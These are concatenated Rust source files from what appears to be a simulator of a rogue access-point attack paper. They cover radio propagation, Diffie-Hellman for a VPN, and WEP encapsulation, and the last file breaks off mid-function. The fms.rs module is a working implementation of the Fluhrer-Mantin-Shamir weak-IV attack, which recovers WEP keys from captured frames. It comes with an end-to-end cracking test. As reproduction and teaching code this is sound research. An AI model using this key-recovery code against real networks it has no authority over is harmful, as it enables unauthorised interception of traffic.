        // Out-of-bounds clamps, never panics.
        assert_eq!(map.region_of(Pos::new(-50.0, 0.0)), 0);
        assert_eq!(map.region_of(Pos::new(5000.0, 0.0)), 3);
    }

    #[test]
    fn boundary_disc_detection() {
        let map = RegionMap::new(4, 0.0, 1024.0);
        let mid_stripe = Pos::new(128.0, 0.0);
        assert!(!map.disc_crosses_region(mid_stripe, 100.0));
        assert!(map.disc_crosses_region(mid_stripe, 200.0));
        let near_edge = Pos::new(250.0, 0.0);
        assert!(map.disc_crosses_region(near_edge, 10.0));
    }

    #[test]
    fn stripe_span_agrees_with_region_of() {
        let map = RegionMap::new(4, 0.0, 1024.0);
        for r in 0..4 {
            let (lo, hi) = map.stripe_span(r);
            let probe_lo = if lo.is_finite() { lo } else { -1e6 };
            let probe_hi = if hi.is_finite() { hi } else { 1e6 };
            assert_eq!(map.region_of(Pos::new(probe_lo, 0.0)), r);
            assert_eq!(map.region_of(Pos::new(probe_hi - 1e-6, 0.0)), r);
            if hi.is_finite() {
                assert_eq!(map.region_of(Pos::new(hi, 0.0)), r + 1);
            }
        }
    }

    #[test]
    fn region_is_pure_function_of_position() {
        let map = RegionMap::new(8, -512.0, 512.0);
        for i in -20..20 {
            let p = Pos::new(i as f64 * 37.5, i as f64);
            assert_eq!(map.region_of(p), map.region_of(p));
        }
    }
}
