//! Propagation primitives: positions, path loss, channels, bitrates and
//! airtime.

use rogue_sim::SimDuration;

/// 2-D position in metres.
#[derive(Clone, Copy, PartialEq, Debug, Default)]
pub struct Pos {
    /// X coordinate, metres.
    pub x: f64,
    /// Y coordinate, metres.
    pub y: f64,
}

impl Pos {
    /// Construct a position.
    pub const fn new(x: f64, y: f64) -> Pos {
        Pos { x, y }
    }

    /// Euclidean distance to `other`, metres.
    pub fn distance(self, other: Pos) -> f64 {
        ((self.x - other.x).powi(2) + (self.y - other.y).powi(2)).sqrt()
    }
}

/// Channels this far apart (or more) do not interfere at all. In 2.4 GHz
/// 802.11b the classic non-overlapping set {1, 6, 11} is spaced by 5.
pub const CHANNEL_SPACING_NONOVERLAP: u8 = 5;

/// Adjacent-channel rejection in dB for channel offsets 0..=4. Offsets ≥ 5
/// are treated as infinite rejection. Values follow the usual spectral-mask
/// staircase; exact numbers only shift where interference becomes
/// negligible.
pub const ACI_REJECTION_DB: [f64; 5] = [0.0, 12.0, 28.0, 45.0, 60.0];

/// Attenuation applied to an interferer `offset` channels away, or `None`
/// when it cannot interfere.
pub fn aci_rejection_db(offset: u8) -> Option<f64> {
    if offset >= CHANNEL_SPACING_NONOVERLAP {
        None
    } else {
        Some(ACI_REJECTION_DB[offset as usize])
    }
}

/// 802.11b data rates.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum Bitrate {
    /// 1 Mbps DBPSK — mandatory rate, used for management frames.
    B1,
    /// 2 Mbps DQPSK.
    B2,
    /// 5.5 Mbps CCK.
    B5_5,
    /// 11 Mbps CCK — the paper-era "full speed".
    B11,
}

impl Bitrate {
    /// Data rate in bits per second.
    pub const fn bits_per_sec(self) -> u64 {
        match self {
            Bitrate::B1 => 1_000_000,
            Bitrate::B2 => 2_000_000,
            Bitrate::B5_5 => 5_500_000,
            Bitrate::B11 => 11_000_000,
        }
    }

    /// Minimum SINR (dB) to decode at this rate. Higher rates need cleaner
    /// signal — which is why management traffic runs at 1 Mbps.
    pub const fn sinr_threshold_db(self) -> f64 {
        match self {
            Bitrate::B1 => 4.0,
            Bitrate::B2 => 6.0,
            Bitrate::B5_5 => 8.0,
            Bitrate::B11 => 10.0,
        }
    }

    /// Receiver sensitivity (dBm): below this RSSI the frame is noise even
    /// with zero interference. Typical Prism-era card figures.
    pub const fn sensitivity_dbm(self) -> f64 {
        match self {
            Bitrate::B1 => -94.0,
            Bitrate::B2 => -91.0,
            Bitrate::B5_5 => -87.0,
            Bitrate::B11 => -82.0,
        }
    }

    /// The weakest sensitivity across all rates (1 Mbps DBPSK): below
    /// this RSSI a frame is undecodable at *any* rate.
    pub const MIN_SENSITIVITY_DBM: f64 = Bitrate::B1.sensitivity_dbm();

    /// Long-preamble PLCP overhead: 144 µs preamble + 48 µs header, always
    /// at 1 Mbps.
    pub const PLCP_OVERHEAD: SimDuration = SimDuration(192_000);

    /// Total airtime for a frame of `len` bytes at this rate.
    pub fn airtime(self, len: usize) -> SimDuration {
        Self::PLCP_OVERHEAD + SimDuration::for_bits(len as u64 * 8, self.bits_per_sec())
    }
}

/// Free-space-referenced log-distance path loss.
///
/// `loss_db = ref_loss_db + 10 · exponent · log10(max(d, 1m))`
///
/// With the defaults (40 dB at 1 m, exponent 3.0 — indoor office) an AP at
/// +15 dBm is decodable at 11 Mbps out to roughly 45 m and at 1 Mbps to
/// roughly 115 m, matching period deployment guidance.
pub fn path_loss_db(distance_m: f64, ref_loss_db: f64, exponent: f64) -> f64 {
    let d = distance_m.max(1.0);
    ref_loss_db + 10.0 * exponent * d.log10()
}

/// Maximum distance at which a transmitter at `tx_power_dbm` is still
/// received at or above `floor_dbm` under log-distance path loss — the
/// radius the spatial cull scans. Returns `f64::INFINITY` when the model
/// cannot attenuate below the floor (non-positive exponent) and `0.0`
/// when even the 1 m reference loss leaves the signal below the floor.
pub fn max_range_m(tx_power_dbm: f64, floor_dbm: f64, ref_loss_db: f64, exponent: f64) -> f64 {
    let budget_db = tx_power_dbm - ref_loss_db - floor_dbm;
    if budget_db < 0.0 {
        return 0.0;
    }
    if exponent <= 0.0 {
        return f64::INFINITY;
    }
    10f64.powf(budget_db / (10.0 * exponent)).max(1.0)
}

/// dBm → milliwatts.
pub fn dbm_to_mw(dbm: f64) -> f64 {
    10f64.powf(dbm / 10.0)
}

/// Milliwatts → dBm.
pub fn mw_to_dbm(mw: f64) -> f64 {
    10.0 * mw.log10()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn distance_is_euclidean() {
        let a = Pos::new(0.0, 0.0);
        let b = Pos::new(3.0, 4.0);
        assert!((a.distance(b) - 5.0).abs() < 1e-12);
        assert_eq!(a.distance(a), 0.0);
    }

    #[test]
    fn path_loss_monotone_in_distance() {
        let l10 = path_loss_db(10.0, 40.0, 3.0);
        let l20 = path_loss_db(20.0, 40.0, 3.0);
        assert!(l20 > l10);
        // Doubling distance at exponent 3 adds ~9 dB.
        assert!((l20 - l10 - 9.03).abs() < 0.05);
    }

    #[test]
    fn path_loss_clamps_below_1m() {
        assert_eq!(path_loss_db(0.0, 40.0, 3.0), 40.0);
        assert_eq!(path_loss_db(0.5, 40.0, 3.0), 40.0);
    }

    #[test]
    fn dbm_mw_round_trip() {
        for dbm in [-90.0, -30.0, 0.0, 15.0] {
            assert!((mw_to_dbm(dbm_to_mw(dbm)) - dbm).abs() < 1e-9);
        }
        assert!((dbm_to_mw(0.0) - 1.0).abs() < 1e-12);
        assert!((dbm_to_mw(10.0) - 10.0).abs() < 1e-9);
    }

    #[test]
    fn airtime_includes_preamble() {
        // Zero-length frame still costs the PLCP preamble.
        assert_eq!(Bitrate::B1.airtime(0), SimDuration::from_micros(192));
        // 1375 bytes at 11 Mbps = 1 ms payload + 192 µs preamble.
        let t = Bitrate::B11.airtime(1375);
        assert_eq!(t, SimDuration::from_micros(192 + 1000));
        // Same frame at 1 Mbps takes 11x the payload time.
        let slow = Bitrate::B1.airtime(1375);
        assert_eq!(slow, SimDuration::from_micros(192 + 11_000));
    }

    #[test]
    fn aci_staircase() {
        assert_eq!(aci_rejection_db(0), Some(0.0));
        assert_eq!(aci_rejection_db(1), Some(12.0));
        assert_eq!(aci_rejection_db(4), Some(60.0));
        assert_eq!(aci_rejection_db(5), None);
        // Channels 1 and 6: the paper's Figure 1 configuration — no mutual
        // interference.
        assert_eq!(aci_rejection_db(6 - 1), None);
    }

    #[test]
    fn max_range_inverts_path_loss() {
        // At the computed range the signal sits exactly on the floor;
        // one metre past it, below.
        let r = max_range_m(15.0, -94.0, 40.0, 3.0);
        assert!((15.0 - path_loss_db(r, 40.0, 3.0) - -94.0).abs() < 1e-6);
        assert!(15.0 - path_loss_db(r + 1.0, 40.0, 3.0) < -94.0);
        // Degenerate cases: no budget → 0; no attenuation → unbounded;
        // budget inside the 1 m clamp → clamped to 1 m.
        assert_eq!(max_range_m(15.0, 20.0, 40.0, 3.0), 0.0);
        assert_eq!(max_range_m(15.0, -94.0, 40.0, 0.0), f64::INFINITY);
        assert_eq!(max_range_m(15.0, -25.0, 40.0, 3.0), 1.0);
    }

    #[test]
    fn min_sensitivity_is_the_weakest_rate() {
        for r in [Bitrate::B1, Bitrate::B2, Bitrate::B5_5, Bitrate::B11] {
            assert!(Bitrate::MIN_SENSITIVITY_DBM <= r.sensitivity_dbm());
        }
    }

    #[test]
    fn rate_thresholds_are_ordered() {
        let rates = [Bitrate::B1, Bitrate::B2, Bitrate::B5_5, Bitrate::B11];
        for w in rates.windows(2) {
            assert!(w[0].sinr_threshold_db() < w[1].sinr_threshold_db());
            assert!(w[0].sensitivity_dbm() < w[1].sensitivity_dbm());
            assert!(w[0].bits_per_sec() < w[1].bits_per_sec());
        }
    }
}
