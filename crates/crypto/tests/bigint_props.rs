//! Property tests for the DH big-integer arithmetic — the division
//! algorithm (Knuth D) is the classic place for carry bugs, and a wrong
//! quotient here would silently corrupt every VPN handshake.

use proptest::prelude::*;
use rogue_crypto::bigint::BigUint;
use rogue_crypto::dh::{DhKeyPair, EXPONENT_LEN};

/// Schoolbook big-endian byte addition (test oracle only).
fn add_be(a: &[u8], b: &[u8]) -> Vec<u8> {
    let n = a.len().max(b.len()) + 1;
    let mut out = vec![0u8; n];
    let mut carry = 0u16;
    for i in 0..n {
        let da = if i < a.len() {
            a[a.len() - 1 - i] as u16
        } else {
            0
        };
        let db = if i < b.len() {
            b[b.len() - 1 - i] as u16
        } else {
            0
        };
        let s = da + db + carry;
        out[n - 1 - i] = s as u8;
        carry = s >> 8;
    }
    out
}

proptest! {
    /// a = q·b + r with r < b, for arbitrary operands.
    #[test]
    fn div_rem_invariant(a in proptest::collection::vec(any::<u8>(), 0..48),
                         b in proptest::collection::vec(any::<u8>(), 1..24)) {
        let a_n = BigUint::from_be_bytes(&a);
        let b_n = BigUint::from_be_bytes(&b);
        prop_assume!(!b_n.is_zero());
        let (q, r) = a_n.div_rem(&b_n);
        prop_assert!(r < b_n, "remainder must be reduced");
        // Reconstruct via the byte-level oracle.
        let qb = q.mul(&b_n);
        let len = a.len().max(1) + b.len() + 2;
        let sum = add_be(&qb.to_be_bytes(len), &r.to_be_bytes(len));
        let sum_n = BigUint::from_be_bytes(&sum);
        prop_assert_eq!(sum_n, a_n, "q*b + r != a");
    }

    /// mod_reduce agrees with div_rem's remainder.
    #[test]
    fn mod_reduce_consistent(a in proptest::collection::vec(any::<u8>(), 0..40),
                             m in proptest::collection::vec(any::<u8>(), 1..16)) {
        let a_n = BigUint::from_be_bytes(&a);
        let m_n = BigUint::from_be_bytes(&m);
        prop_assume!(!m_n.is_zero());
        prop_assert_eq!(a_n.mod_reduce(&m_n), a_n.div_rem(&m_n).1);
    }

    /// pow_mod agrees with a u128 reference for word-sized inputs.
    #[test]
    fn pow_mod_matches_u128(b in 0u64..=u64::MAX, e in 0u64..4096, m in 2u32..=u32::MAX) {
        let m64 = m as u64;
        let mut want: u128 = 1;
        let mut base = (b % m64) as u128;
        let mut exp = e;
        while exp > 0 {
            if exp & 1 == 1 {
                want = want * base % m64 as u128;
            }
            base = base * base % m64 as u128;
            exp >>= 1;
        }
        let got = BigUint::from_u64(b).pow_mod(&BigUint::from_u64(e), &BigUint::from_u64(m64));
        prop_assert_eq!(got, BigUint::from_u64(want as u64));
    }

    /// Byte serialization round-trips at any sufficient width.
    #[test]
    fn byte_roundtrip(bytes in proptest::collection::vec(any::<u8>(), 0..64),
                      pad in 0usize..16) {
        let n = BigUint::from_be_bytes(&bytes);
        let width = bytes.len() + pad;
        if width > 0 {
            let out = n.to_be_bytes(width);
            prop_assert_eq!(BigUint::from_be_bytes(&out), n);
        }
    }
}

/// Full-width DH agreement symmetry across random keypairs (few cases —
/// each is a pair of 1024-bit exponentiations).
#[test]
fn dh_agreement_symmetry_random() {
    for i in 0..4u8 {
        let mut ra = [i; EXPONENT_LEN];
        ra[0] = i.wrapping_mul(37).wrapping_add(1);
        let mut rb = [i.wrapping_add(100); EXPONENT_LEN];
        rb[5] = i.wrapping_mul(11).wrapping_add(3);
        let a = DhKeyPair::generate(&ra);
        let b = DhKeyPair::generate(&rb);
        assert_eq!(a.agree(&b.public).unwrap(), b.agree(&a.public).unwrap());
    }
}
