//! Finite-field Diffie–Hellman key agreement.
//!
//! The VPN handshake (Section 5 of the paper) needs a fresh shared secret
//! per session so that a rogue gateway relaying packets learns nothing.
//! We use the classic 1024-bit MODP group (RFC 2409 "Oakley Group 2",
//! generator 2) — period-correct for a 2003 PPP-over-SSH deployment —
//! with 256-bit private exponents (standard short-exponent practice).
//!
//! Note the paper's crucial caveat (§5.2): DH alone is anonymous, so the
//! tunnel must *also* authenticate the endpoint against pre-established
//! credentials — otherwise the rogue AP can simply terminate the VPN
//! itself. `rogue-vpn` binds this exchange to a pre-shared key via HMAC,
//! and `rogue-vpn`'s tests include the MITM-without-auth failure case.

use crate::bigint::BigUint;

/// RFC 2409 Oakley Group 2: 1024-bit safe prime, generator 2.
pub const MODP_1024: &[u8] = &[
    0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xC9, 0x0F, 0xDA, 0xA2, 0x21, 0x68, 0xC2, 0x34,
    0xC4, 0xC6, 0x62, 0x8B, 0x80, 0xDC, 0x1C, 0xD1, 0x29, 0x02, 0x4E, 0x08, 0x8A, 0x67, 0xCC, 0x74,
    0x02, 0x0B, 0xBE, 0xA6, 0x3B, 0x13, 0x9B, 0x22, 0x51, 0x4A, 0x08, 0x79, 0x8E, 0x34, 0x04, 0xDD,
    0xEF, 0x95, 0x19, 0xB3, 0xCD, 0x3A, 0x43, 0x1B, 0x30, 0x2B, 0x0A, 0x6D, 0xF2, 0x5F, 0x14, 0x37,
    0x4F, 0xE1, 0x35, 0x6D, 0x6D, 0x51, 0xC2, 0x45, 0xE4, 0x85, 0xB5, 0x76, 0x62, 0x5E, 0x7E, 0xC6,
    0xF4, 0x4C, 0x42, 0xE9, 0xA6, 0x37, 0xED, 0x6B, 0x0B, 0xFF, 0x5C, 0xB6, 0xF4, 0x06, 0xB7, 0xED,
    0xEE, 0x38, 0x6B, 0xFB, 0x5A, 0x89, 0x9F, 0xA5, 0xAE, 0x9F, 0x24, 0x11, 0x7C, 0x4B, 0x1F, 0xE6,
    0x49, 0x28, 0x66, 0x51, 0xEC, 0xE6, 0x53, 0x81, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF,
];

/// Byte length of a group element on the wire.
pub const ELEMENT_LEN: usize = 128;

/// Private exponent length in bytes (256-bit short exponents).
pub const EXPONENT_LEN: usize = 32;

/// One side's ephemeral DH keypair.
pub struct DhKeyPair {
    private: BigUint,
    /// Public value `g^x mod p`, serialized to [`ELEMENT_LEN`] bytes.
    pub public: Vec<u8>,
}

impl DhKeyPair {
    /// Generate a keypair from caller-supplied randomness (the simulator's
    /// deterministic RNG provides it).
    pub fn generate(random: &[u8; EXPONENT_LEN]) -> DhKeyPair {
        let p = BigUint::from_be_bytes(MODP_1024);
        let g = BigUint::from_u64(2);
        let mut exp_bytes = *random;
        // Clamp: force the top bit so the exponent has full length, and
        // avoid trivial exponents.
        exp_bytes[0] |= 0x80;
        let private = BigUint::from_be_bytes(&exp_bytes);
        let public_n = g.pow_mod(&private, &p);
        DhKeyPair {
            private,
            public: public_n.to_be_bytes(ELEMENT_LEN),
        }
    }

    /// Combine with the peer's public value, producing the shared secret
    /// (fixed [`ELEMENT_LEN`] bytes). Returns `None` for degenerate peer
    /// values (0, 1, p-1, or ≥ p) — accepting those would let an in-path
    /// attacker force a known secret.
    pub fn agree(&self, peer_public: &[u8]) -> Option<Vec<u8>> {
        if peer_public.len() != ELEMENT_LEN {
            return None;
        }
        let p = BigUint::from_be_bytes(MODP_1024);
        let peer = BigUint::from_be_bytes(peer_public);
        let one = BigUint::one();
        let pm1 = {
            // p - 1 == p with the low bit cleared (p is odd).
            let mut b = p.to_be_bytes(ELEMENT_LEN);
            let last = b.len() - 1;
            b[last] &= 0xFE;
            BigUint::from_be_bytes(&b)
        };
        if peer.is_zero() || peer == one || peer == pm1 || peer >= p {
            return None;
        }
        let shared = peer.pow_mod(&self.private, &p);
        Some(shared.to_be_bytes(ELEMENT_LEN))
    }
}

impl std::fmt::Debug for DhKeyPair {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        // Never print the private exponent.
        write!(f, "DhKeyPair {{ public: {} bytes }}", self.public.len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn keypair(tag: u8) -> DhKeyPair {
        let mut r = [tag; EXPONENT_LEN];
        r[31] = tag.wrapping_add(1);
        DhKeyPair::generate(&r)
    }

    #[test]
    fn agreement_matches() {
        let alice = keypair(0xA1);
        let bob = keypair(0xB2);
        let s1 = alice.agree(&bob.public).expect("valid peer");
        let s2 = bob.agree(&alice.public).expect("valid peer");
        assert_eq!(s1, s2);
        assert_eq!(s1.len(), ELEMENT_LEN);
    }

    #[test]
    fn different_peers_different_secrets() {
        let alice = keypair(1);
        let bob = keypair(2);
        let carol = keypair(3);
        let ab = alice.agree(&bob.public).unwrap();
        let ac = alice.agree(&carol.public).unwrap();
        assert_ne!(ab, ac);
    }

    #[test]
    fn rejects_degenerate_public_values() {
        let alice = keypair(9);
        let zero = vec![0u8; ELEMENT_LEN];
        assert!(alice.agree(&zero).is_none(), "0 must be rejected");
        let mut one = vec![0u8; ELEMENT_LEN];
        one[ELEMENT_LEN - 1] = 1;
        assert!(alice.agree(&one).is_none(), "1 must be rejected");
        let p = MODP_1024.to_vec();
        assert!(alice.agree(&p).is_none(), "p must be rejected");
        let mut pm1 = MODP_1024.to_vec();
        pm1[ELEMENT_LEN - 1] &= 0xFE;
        assert!(alice.agree(&pm1).is_none(), "p-1 must be rejected");
        assert!(alice.agree(&[1, 2, 3]).is_none(), "short input rejected");
    }

    #[test]
    fn public_value_is_in_range() {
        let kp = keypair(0x55);
        let p = BigUint::from_be_bytes(MODP_1024);
        let pubv = BigUint::from_be_bytes(&kp.public);
        assert!(pubv < p);
        assert!(!pubv.is_zero());
    }

    #[test]
    fn deterministic_from_randomness() {
        let a = DhKeyPair::generate(&[7u8; EXPONENT_LEN]);
        let b = DhKeyPair::generate(&[7u8; EXPONENT_LEN]);
        assert_eq!(a.public, b.public);
    }

    #[test]
    fn debug_hides_private_key() {
        let kp = keypair(4);
        assert!(!format!("{kp:?}").contains("private"));
    }
}
