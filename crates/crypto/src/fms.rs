//! The Fluhrer–Mantin–Shamir (FMS) weak-IV attack on WEP — the mathematics
//! inside Airsnort (paper references \[3\] "Weaknesses in the key scheduling
//! algorithm of RC4" and \[11\] "Using the Fluhrer, Mantin, and Shamir attack
//! to break WEP").
//!
//! ## How it works
//!
//! WEP keys RC4 with `IV ∥ secret`, and the 3-byte IV is sent in the clear.
//! For "resolved" IVs the first PRGA output byte depends on a *single*
//! unknown secret byte with probability ≈ 5%, and is uniform otherwise, so
//! a vote over many captured frames recovers the secret byte by byte:
//!
//! 1. To attack secret byte `a` (full key index `A = a + 3`), simulate the
//!    first `A` KSA steps using the known key prefix (IV plus already
//!    recovered bytes).
//! 2. If the state is *resolved* — `S\[1\] < A` and `S\[1\] + S[S\[1\]] == A` —
//!    then with p ≈ e⁻³ ≈ 5% the first keystream byte `out` satisfies
//!    `secret[a] = S⁻¹[out] − j − S[A] (mod 256)`.
//! 3. The first keystream byte is observable because 802.11 data frames
//!    start with the LLC/SNAP byte 0xAA: `out = ct\[0\] ^ 0xAA`.
//!
//! This module *re-implements* the KSA prefix simulation rather than
//! calling [`crate::rc4`], so the attack code is independent of the cipher
//! code it breaks.

/// First plaintext byte of an 802.11 LLC/SNAP data frame.
pub const SNAP_FIRST_BYTE: u8 = 0xAA;

/// One passively captured observation: cleartext IV and the first
/// keystream byte (`first ciphertext byte ^ 0xAA`).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Sample {
    /// The 3 cleartext IV bytes.
    pub iv: [u8; 3],
    /// First keystream byte.
    pub ks0: u8,
}

impl Sample {
    /// Build a sample from sniffer observables.
    pub fn from_capture(iv: [u8; 3], first_ct_byte: u8) -> Sample {
        Sample {
            iv,
            ks0: first_ct_byte ^ SNAP_FIRST_BYTE,
        }
    }
}

/// Accumulates captured samples and recovers the key at crack time.
///
/// ```
/// use rogue_crypto::fms::{KeyRecovery, Sample, targeted_weak_ivs};
/// use rogue_crypto::rc4::Rc4;
/// let secret = b"KEY-1";
/// let mut kr = KeyRecovery::new();
/// for iv in targeted_weak_ivs(5, 256) {
///     let mut k = iv.to_vec();
///     k.extend_from_slice(secret);
///     kr.absorb(Sample { iv, ks0: Rc4::new(&k).next_byte() });
/// }
/// assert_eq!(kr.crack(5).key, secret);
/// ```
#[derive(Clone, Debug)]
pub struct KeyRecovery {
    /// Samples bucketed by `iv[0]` — the only IVs that can resolve
    /// secret byte `a` have `iv[0] == a + 3`, so `crack` scans exactly
    /// one bucket per key-byte position instead of every sample for
    /// every position. Insertion order is preserved within a bucket,
    /// so votes (and ties) are identical to the flat scan.
    buckets: Vec<Vec<Sample>>,
    count: usize,
}

impl Default for KeyRecovery {
    fn default() -> Self {
        KeyRecovery {
            buckets: vec![Vec::new(); 256],
            count: 0,
        }
    }
}

/// Result of a crack attempt.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CrackResult {
    /// Best-guess secret key bytes.
    pub key: Vec<u8>,
    /// Number of "resolved" votes each byte received for its winner.
    pub winning_votes: Vec<u32>,
    /// Total resolved samples per byte position (vote participation).
    pub resolved: Vec<u32>,
}

impl KeyRecovery {
    /// Fresh, empty collector.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of samples collected so far.
    pub fn len(&self) -> usize {
        self.count
    }

    /// True when no samples have been absorbed.
    pub fn is_empty(&self) -> bool {
        self.count == 0
    }

    /// Absorb one observation.
    pub fn absorb(&mut self, s: Sample) {
        self.buckets[s.iv[0] as usize].push(s);
        self.count += 1;
    }

    /// Absorb many observations.
    pub fn absorb_all(&mut self, it: impl IntoIterator<Item = Sample>) {
        for s in it {
            self.absorb(s);
        }
    }

    /// Attempt to recover a secret key of `key_len` bytes (5 or 13).
    ///
    /// Returns the most-voted key. The caller should verify the candidate
    /// (e.g. by `wep::open` on a captured frame) — exactly what Airsnort
    /// did — because with few samples the vote can elect a wrong byte.
    pub fn crack(&self, key_len: usize) -> CrackResult {
        let mut recovered: Vec<u8> = Vec::with_capacity(key_len);
        let mut winning_votes = Vec::with_capacity(key_len);
        let mut resolved_counts = Vec::with_capacity(key_len);

        for a in 0..key_len {
            let target = a + 3; // full-key index being attacked
            let mut votes = [0u32; 256];
            let mut resolved = 0u32;
            // Only IVs whose first byte equals the target index can be
            // resolved for this position with the classic structure;
            // the absorb-time buckets hand us exactly those samples, so
            // each position scans its own bucket instead of the whole
            // capture (E4 calls crack 10 replications × 8 cells per run).
            for s in &self.buckets[target] {
                if let Some(vote) = fms_vote(s, &recovered, target) {
                    votes[vote as usize] += 1;
                    resolved += 1;
                }
            }
            let (best, &count) = votes
                .iter()
                .enumerate()
                .max_by_key(|&(i, v)| (*v, std::cmp::Reverse(i)))
                .expect("256 candidates");
            recovered.push(best as u8);
            winning_votes.push(count);
            resolved_counts.push(resolved);
        }

        CrackResult {
            key: recovered,
            winning_votes,
            resolved: resolved_counts,
        }
    }
}

/// Simulate the KSA prefix for one sample and produce a vote for full-key
/// index `target` (`recovered` holds secret bytes 0..target-3). Returns
/// `None` when the state is not resolved.
fn fms_vote(s: &Sample, recovered: &[u8], target: usize) -> Option<u8> {
    debug_assert_eq!(recovered.len() + 3, target);
    // Known key prefix: IV ∥ recovered secret bytes.
    let mut key_prefix = [0u8; 16 + 3];
    key_prefix[..3].copy_from_slice(&s.iv);
    key_prefix[3..3 + recovered.len()].copy_from_slice(recovered);

    // Partial KSA over the first `target` steps (i = 0..target-1).
    let mut st: [u8; 256] = core::array::from_fn(|i| i as u8);
    let mut j: u8 = 0;
    for (i, &k) in key_prefix.iter().enumerate().take(target) {
        j = j.wrapping_add(st[i]).wrapping_add(k);
        st.swap(i, j as usize);
    }

    // Resolved condition.
    let s1 = st[1] as usize;
    if s1 >= target || s1 + st[s1] as usize != target {
        return None;
    }
    // Invert the permutation at the observed keystream byte.
    let inv = st.iter().position(|&v| v == s.ks0).expect("permutation") as u8;
    Some(inv.wrapping_sub(j).wrapping_sub(st[target]))
}

/// Generate the classic targeted weak IVs `(a+3, 0xFF, x)` for all key
/// byte positions — useful for attack tooling that can *induce* traffic
/// (active variant) and for fast tests.
pub fn targeted_weak_ivs(key_len: usize, per_position: usize) -> Vec<[u8; 3]> {
    let mut out = Vec::with_capacity(key_len * per_position);
    for a in 0..key_len {
        for x in 0..per_position {
            out.push([(a + 3) as u8, 0xFF, (x % 256) as u8]);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rc4::Rc4;
    use crate::wep::{seal, WepKey};

    /// Oracle: first keystream byte for IV ∥ secret, via the real cipher.
    fn ks0(iv: [u8; 3], secret: &[u8]) -> u8 {
        let mut key = Vec::with_capacity(3 + secret.len());
        key.extend_from_slice(&iv);
        key.extend_from_slice(secret);
        Rc4::new(&key).next_byte()
    }

    fn collect_weak(secret: &[u8], per_position: usize) -> KeyRecovery {
        let mut kr = KeyRecovery::new();
        for iv in targeted_weak_ivs(secret.len(), per_position) {
            kr.absorb(Sample {
                iv,
                ks0: ks0(iv, secret),
            });
        }
        kr
    }

    #[test]
    fn cracks_40_bit_key_from_weak_ivs() {
        let secret = b"AB#12";
        let kr = collect_weak(secret, 256);
        let res = kr.crack(5);
        assert_eq!(&res.key, secret, "votes: {:?}", res.winning_votes);
    }

    #[test]
    fn cracks_104_bit_key_from_weak_ivs() {
        let secret = b"thirteen-byte";
        let kr = collect_weak(secret, 256);
        let res = kr.crack(13);
        assert_eq!(&res.key, secret);
    }

    #[test]
    fn too_few_samples_fail() {
        let secret = b"AB#12";
        let kr = collect_weak(secret, 3);
        let res = kr.crack(5);
        // With only 3 weak IVs per position the vote is essentially noise;
        // the test asserts the attack *reports* weak support rather than
        // silently being wrong — winning votes should be small.
        assert!(
            res.winning_votes.iter().all(|&v| v <= 3),
            "votes {:?}",
            res.winning_votes
        );
    }

    #[test]
    fn sample_from_capture_uses_snap() {
        let s = Sample::from_capture([1, 2, 3], 0xAA);
        assert_eq!(s.ks0, 0);
        let s = Sample::from_capture([1, 2, 3], 0x00);
        assert_eq!(s.ks0, 0xAA);
    }

    #[test]
    fn end_to_end_against_wep_seal() {
        // Full pipeline: sealed WEP frames -> sniffer observables ->
        // crack -> recovered key opens a frame.
        use crate::wep::{open, peek_first_ct_byte, peek_iv};
        let key = WepKey::new(b"KEY42");
        let payload = {
            // 802.11 data payloads start with LLC/SNAP 0xAA.
            let mut p = vec![0xAAu8];
            p.extend_from_slice(b"\x03\x00\x00\x00\x08\x00payload");
            p
        };

        let mut kr = KeyRecovery::new();
        let mut a_frame = None;
        for iv in targeted_weak_ivs(5, 256) {
            let body = seal(&key, iv, 0, &payload);
            let iv_seen = peek_iv(&body).unwrap();
            let ct0 = peek_first_ct_byte(&body).unwrap();
            kr.absorb(Sample::from_capture(iv_seen, ct0));
            a_frame = Some(body);
        }

        let res = kr.crack(5);
        let candidate = WepKey::new(&res.key);
        let opened = open(&candidate, &a_frame.unwrap()).expect("recovered key must work");
        assert_eq!(opened, payload);
    }

    #[test]
    fn targeted_ivs_have_classic_shape() {
        let ivs = targeted_weak_ivs(5, 10);
        assert_eq!(ivs.len(), 50);
        assert!(ivs.iter().all(|iv| iv[1] == 0xFF));
        assert!(ivs.iter().all(|iv| (3..8).contains(&iv[0])));
    }
}
