//! WEP ("Wired Equivalent Privacy") encapsulation — the broken link-layer
//! cipher the paper's attack shrugs off ("in the attack scenarios we
//! present here it provides no protection what so ever").
//!
//! Frame body format (IEEE 802.11-1999 §8.2.1):
//!
//! ```text
//! | IV (3 bytes) | KeyID (1 byte) | RC4(payload ∥ ICV) |
//! ```
//!
//! where `ICV = CRC32(payload)` (little-endian) and the RC4 key is
//! `IV ∥ secret` — the key structure the FMS attack exploits. Both the
//! 64-bit flavour (40-bit secret) and the 128-bit flavour (104-bit secret)
//! are supported.

use crate::crc32::crc32;
use crate::rc4::Rc4;

/// A WEP shared secret: 5 bytes ("40-bit"/"64-bit WEP") or
/// 13 bytes ("104-bit"/"128-bit WEP").
#[derive(Clone, PartialEq, Eq)]
pub struct WepKey {
    bytes: Vec<u8>,
}

/// Errors from [`open`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WepError {
    /// Body shorter than IV + KeyID + ICV.
    TooShort,
    /// The decrypted ICV did not match — wrong key or corrupted frame.
    BadIcv,
}

impl WepKey {
    /// Construct from raw bytes; panics unless the length is 5 or 13.
    pub fn new(bytes: &[u8]) -> WepKey {
        assert!(
            bytes.len() == 5 || bytes.len() == 13,
            "WEP keys are 5 (WEP-40) or 13 (WEP-104) bytes, got {}",
            bytes.len()
        );
        WepKey {
            bytes: bytes.to_vec(),
        }
    }

    /// The classic vendor convention of deriving a 5-byte key from an
    /// ASCII passphrase by truncation/padding — how "SECRET" in the paper's
    /// Figure 1 becomes key material. (Real vendors used this and worse.)
    pub fn from_passphrase_40(pass: &str) -> WepKey {
        let mut bytes = [0u8; 5];
        for (i, b) in pass.bytes().enumerate() {
